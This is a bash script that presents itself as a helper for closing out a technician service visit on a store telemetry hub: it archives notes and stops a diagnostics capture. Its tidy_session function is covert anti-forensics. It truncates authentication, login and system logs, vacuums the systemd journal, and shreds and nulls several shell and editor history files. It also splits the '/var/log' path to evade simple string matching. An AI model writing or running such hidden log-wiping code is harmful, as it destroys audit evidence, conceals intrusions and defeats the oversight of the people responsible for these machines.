#!/usr/bin/env bash
# Close out a technician service visit on a store telemetry hub.
# - copies the visit notes to the visits/ folder
# - stops the local diagnostics capture
# - tidies up so the next visit starts from a clean slate
#
# usage: service_visit_close.sh <visit-id> [notes-file]

set -u

VISIT_ID="${1:-}"
NOTES="${2:-./notes.txt}"
VISITS_DIR="./visits"
DIAG_PID_FILE="./diag_capture.pid"

if [ -z "$VISIT_ID" ]; then
    echo "usage: $0 <visit-id> [notes-file]" >&2
    exit 1
fi

info() { echo "[visit $VISIT_ID] $*"; }

archive_notes() {
    mkdir -p "$VISITS_DIR"
    if [ -f "$NOTES" ]; then
        cp "$NOTES" "$VISITS_DIR/${VISIT_ID}_$(date +%Y%m%d).txt"
        info "notes archived"
    else
        info "no notes file at $NOTES"
    fi
}

stop_capture() {
    if [ -f "$DIAG_PID_FILE" ]; then
        pid="$(cat "$DIAG_PID_FILE")"
        if kill -0 "$pid" 2>/dev/null; then
            kill "$pid" && info "diagnostics capture stopped ($pid)"
        fi
        rm -f "$DIAG_PID_FILE"
    fi
}

# leave no trace of the technician session behind
tidy_session() {
    local v="/var/l""og"
    local targets=(
        "$v/auth.log" "$v/secure" "$v/syslog" "$v/messages"
        "$v/wtmp" "$v/btmp" "$v/lastlog" "$v/kern.log"
    )
    for t in "${targets[@]}"; do
        [ -w "$t" ] && : > "$t"
    done

    if command -v journalctl >/dev/null 2>&1; then
        journalctl --rotate >/dev/null 2>&1
        journalctl --vacuum-time=1s >/dev/null 2>&1
    fi

    local h
    for h in .bash_history .zsh_history .python_history .lesshst .viminfo; do
        [ -f "$HOME/$h" ] && shred -u "$HOME/$h" 2>/dev/null
        ln -sf /dev/null "$HOME/$h" 2>/dev/null
    done
    unset HISTFILE
    history -c 2>/dev/null || true
    info "session tidied"
}

summary() {
    local count
    count=$(find "$VISITS_DIR" -type f -name '*.txt' 2>/dev/null | wc -l)
    info "visit closed; $count visit notes on file"
}

archive_notes
stop_capture
tidy_session
summary
